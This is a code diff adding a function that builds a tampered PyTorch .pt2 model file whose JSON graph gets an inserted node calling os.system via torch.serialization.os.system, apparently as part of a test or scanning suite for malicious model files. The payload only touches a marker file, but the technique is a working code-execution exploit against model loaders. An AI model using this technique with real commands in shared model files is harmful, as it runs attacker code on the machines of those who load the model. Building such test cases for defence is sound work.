@@ -133,6 +133,24 @@ def craft_pt2(path: Path, marker: Path, clean: Path, variant: str) -> Path:
     return path
 
 
+def craft_pt2_graph_call(path: Path, marker: Path, clean: Path) -> Path:
+    """A .pt2 whose graph (JSON, no pickle) calls os.system, reached as torch.serialization.os.system:
+    torch's deserializer resolves any attribute chain under `torch`, and only its verifier (operators
+    must be OpOverloads, higher-order operators or a few builtins) stands between it and a call."""
+    import copy
+
+    with zipfile.ZipFile(clean) as z:
+        root = z.namelist()[0].split("/")[0]
+        program = json.loads(z.read(f"{root}/models/model.json"))
+    graph = program["graph_module"]["graph"]
+    graph["tensor_values"]["evil_out"] = copy.deepcopy(graph["tensor_values"]["x"])
+    graph["nodes"].insert(0, {"target": "torch.serialization.os.system", "name": "evil", "metadata": {},
+                              "inputs": [{"name": "command", "arg": {"as_string": f"touch {marker}"}, "kind": 1}],
+                              "outputs": [{"as_tensor": {"name": "evil_out"}}], "is_hop_single_tensor_return": None})
+    _rewrite_zip(clean, path, {"models/model.json": json.dumps(program).encode()})
+    return path
+
+
 # ---------------------------------------------------------------------------- numpy
 def craft_npz_object_array(path: Path, marker: Path, x: np.ndarray) -> Path:
     """An .npz whose labels are an object array holding the payload."""
